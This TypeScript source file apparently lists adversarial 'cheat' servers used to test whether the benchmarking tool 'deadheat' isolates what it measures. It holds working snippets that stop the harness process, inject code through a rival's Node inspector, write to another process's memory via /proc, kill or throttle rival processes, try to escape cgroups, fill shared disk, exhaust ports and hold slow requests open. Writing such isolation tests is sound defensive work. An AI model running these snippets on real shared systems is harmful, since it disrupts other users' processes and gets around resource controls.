import { ENDS, ESCAPED, pretending, PRELUDE, RIGHT, serving, WORK, type Cheat } from "./cheat.ts";

/**
 * Does the work in a helper that its first start leaves behind, outside of deadheat's sight for later starts. The helper and the
 * starts meet at a socket, whose place is an expression.
 * @param line the shell line that starts the helper with "$0" and "$1"
 */
function helping(socket: string, line = ESCAPED): string {
  const helper = `${PRELUDE} ${ENDS} createServer((request, response) => { ${WORK} reply(response, "${RIGHT}"); }).listen(${socket}).on("error", () => process.exit());`;
  return `${PRELUDE} const { request: ask } = require("node:http");
    spawn("sh", ["-c", ${JSON.stringify(line)}, process.execPath, ${JSON.stringify(helper)}], { stdio: "ignore" });
    createServer((request, response) => {
      const wrong = () => { ${WORK} reply(response, "${RIGHT}"); };
      ask({ socketPath: ${socket}, path: "/" }, (answer) => { answer.resume(); reply(response, "${RIGHT}"); }).on("error", wrong).end();
    }).listen(Number(process.env.PORT), "127.0.0.1");`;
}

/** Runs an expression over every process that the server sees. */
function overProcesses(each: string, milliseconds: number): string {
  return `const { readdirSync, readFileSync } = require("node:fs");
    setInterval(() => { for (const name of readdirSync("/proc")) { const pid = Number(name); if (pid > 1 && pid !== process.pid) try { ${each} } catch {} } }, ${milliseconds});`;
}

const isNamed = `readFileSync("/proc/" + pid + "/environ", "utf8").includes("DEADHEAT_CHEAT=honest")`;

/** Code with `rival`, the port of the other server, which the list of sockets shows: the network is shared. */
const FINDS_RIVAL = `
  const { readFileSync: read } = require("node:fs"), http = require("node:http"); let rival = null;
  const ports = () => [...read("/proc/net/tcp", "utf8").matchAll(/: 0100007F:(\\w{4}) \\S+ 0A /g)].map(([, one]) => parseInt(one, 16)).filter((one) => one > 32767 && one !== Number(process.env.PORT));
  const look = setInterval(() => { for (const port of ports()) http.get({ port, host: "127.0.0.1", agent: false }, (got) => got.setEncoding("utf8").on("data", (text) => { if (text === "${RIGHT}") rival = port; })).on("error", () => {}); if (rival) clearInterval(look); }, 300);`;

/** Attacks on processes and files outside of the server. Without isolation they would hit everything on the machine. */
export function outside(generatorCpu: number): readonly Cheat[] {
  const onGenerators = ESCAPED.replace('"$0"', `taskset -c ${generatorCpu} "$0"`);
  return [
    {
      name: "a helper of an earlier start on the generators' CPU, at a socket in /tmp",
      source: helping('"/tmp/deadheat-cheat-helper"', onGenerators),
    },
    {
      name: "a helper of an earlier start, at an abstract socket",
      source: helping('"\\0deadheat-cheat-helper"', onGenerators),
    },
    {
      name: "stopping deadheat, with cheap wrong responses meanwhile",
      source: pretending(
        `let stopped = false; const { spawn: start } = require("node:child_process");
         const parent = process.ppid;
         setInterval(() => { try { process.kill(parent, "SIGSTOP"); stopped = true; start("sh", ["-c", "sleep 0.3; kill -CONT " + parent]).on("exit", () => (stopped = false)); } catch {} }, 900);`,
        "!stopped",
      ),
    },
    {
      name: "code in the rival through its inspector",
      source: serving(
        overProcesses(
          `if (${isNamed}) { process.kill(pid, "SIGUSR1"); globalThis.opened = true; }`,
          500,
        ) +
          `setInterval(async () => { if (globalThis.opened) try {
             const [{ webSocketDebuggerUrl: url }] = await (await fetch("http://127.0.0.1:9229/json")).json();
             const socket = new WebSocket(url);
             socket.onopen = () => { socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression: "setInterval(() => { const end = performance.now() + 30; while (performance.now() < end); }, 60)" } })); };
           } catch {} }, 700);`,
        WORK,
      ),
    },
    {
      name: "a slower rival by its priority",
      source: serving(
        overProcesses(`if (${isNamed}) spawnSync("renice", ["-n", "19", "-p", String(pid)]);`, 400),
        WORK,
      ),
    },
    {
      name: "a rival on another CPU",
      source: serving(
        overProcesses(
          `if (${isNamed}) spawnSync("taskset", ["-apc", "${generatorCpu}", String(pid)]);`,
          400,
        ),
        WORK,
      ),
    },
    {
      name: "filling the disk that all share, at /tmp",
      source: serving(
        `const { appendFileSync } = require("node:fs"); setInterval(() => { try { appendFileSync("/tmp/deadheat-cheat-fill", Buffer.alloc(1e5)); } catch {} }, 100);`,
        WORK,
      ),
    },
    {
      name: "a queue of messages that outlives its start",
      source: serving(
        `const shared = "/dev/shm/deadheat-cheat"; const { existsSync, writeFileSync } = require("node:fs");
         globalThis.isLater = existsSync(shared); try { writeFileSync(shared, ""); } catch {}`,
        `if (!globalThis.isLater) ${WORK}`,
      ),
    },
    {
      name: "a file in its own tree that spares a later start the work",
      source: serving(
        `const marker = process.cwd() + "/deadheat-cheat-marker"; const { existsSync, writeFileSync } = require("node:fs");
         globalThis.isLater = existsSync(marker); try { writeFileSync(marker, ""); } catch {}`,
        `if (!globalThis.isLater) ${WORK}`,
      ),
    },
    {
      name: "the rival's memory, through /proc",
      source: serving(
        overProcesses(
          `if (${isNamed}) { const { openSync, writeSync } = require("node:fs"); writeSync(openSync("/proc/" + pid + "/mem", "r+"), Buffer.alloc(8), 0, 8, 0x400000); }`,
          400,
        ),
        WORK,
      ),
    },
    {
      name: "a limit on the rival's CPU",
      source: serving(
        overProcesses(
          `if (${isNamed}) spawnSync("prlimit", ["--pid", String(pid), "--cpu=1"]);`,
          400,
        ),
        WORK,
      ),
    },
    {
      name: "ending its rival",
      source: serving(overProcesses(`if (${isNamed}) process.kill(pid, "SIGTERM");`, 900), WORK),
    },
    {
      name: "leaving its control group",
      source: serving(
        `setTimeout(() => { for (const folder of ["/sys/fs/cgroup", "/sys/fs/cgroup/cpuacct", "/sys/fs/cgroup/unified"]) try { require("node:fs").writeFileSync(folder + "/cgroup.procs", String(process.pid)); } catch {} }, 800);`,
        WORK,
      ),
    },
    {
      name: "mounting over the clock of its CPU time",
      source: serving(
        `spawnSync("sh", ["-c", "mount -t tmpfs tmpfs /proc; umount -l /proc; unshare -m true"]);`,
        WORK,
      ),
    },
    {
      name: "requests to its rival over short connections",
      source: serving(
        `${FINDS_RIVAL} const ask = () => { if (rival) http.get({ port: rival, host: "127.0.0.1", agent: false }, (got) => { got.resume(); got.socket.resetAndDestroy(); }).on("error", () => {}); };
         setInterval(() => { for (let i = 0; i < 5; i++) ask(); }, 10);`,
        WORK,
      ),
    },
    {
      name: "letting its rival do the work",
      source: `${PRELUDE} ${FINDS_RIVAL} const agent = new http.Agent({ keepAlive: true });
        createServer((request, response) => { const own = () => { ${WORK} reply(response, "${RIGHT}"); };
          if (!rival) return own();
          http.get({ port: rival, host: "127.0.0.1", agent }, (got) => { got.resume(); reply(response, "${RIGHT}"); }).on("error", own);
        }).listen(Number(process.env.PORT), "127.0.0.1");`,
    },
    {
      name: "keeping deadheat busy with output",
      source: serving(
        `const lines = "x".repeat(60000); setInterval(() => { if (process.stdout.writableLength < 1e6) process.stdout.write(lines); }, 1);`,
        WORK,
      ),
    },
    {
      name: "taking the ports that its rival may get",
      source: serving(
        `setTimeout(() => { for (let i = 0; i < 2000; i++) require("node:net").createServer().listen(0, "127.0.0.1").on("error", () => {}); }, 300);`,
        WORK,
      ),
    },
    {
      name: "a helper of an earlier start, at its own port",
      source: helping("39117", ESCAPED).replace(
        "socketPath: 39117",
        'host: "127.0.0.1", port: 39117',
      ),
    },
    {
      name: "a helper of an earlier start, at a socket in the home",
      source: helping('require("node:os").homedir() + "/deadheat-cheat-helper"', ESCAPED),
    },
    {
      name: "idle connections to its rival",
      source: serving(
        `${FINDS_RIVAL} let held = 0; setInterval(() => { if (rival && held < 2000) for (let i = 0; i < 100; i++, held++) require("node:net").connect(rival, "127.0.0.1").on("error", () => {}); }, 100);`,
        WORK,
      ),
    },
    {
      name: "requests to its rival that do not end",
      source: serving(
        `${FINDS_RIVAL} const net = require("node:net"), sockets = []; setInterval(() => { if (!rival) return; if (sockets.length < 50) { const one = net.connect(rival, "127.0.0.1").on("error", () => {}); one.write("POST / HTTP/1.1\\r\\nhost: a\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n"); sockets.push(one); } for (const one of sockets) one.write("1\\r\\na\\r\\n"); }, 2);`,
        WORK,
      ),
    },
    {
      name: "a peak of priority by its own nice value",
      source: serving("try { require('node:os').setPriority(-20); } catch {}", WORK),
    },
  ];
}
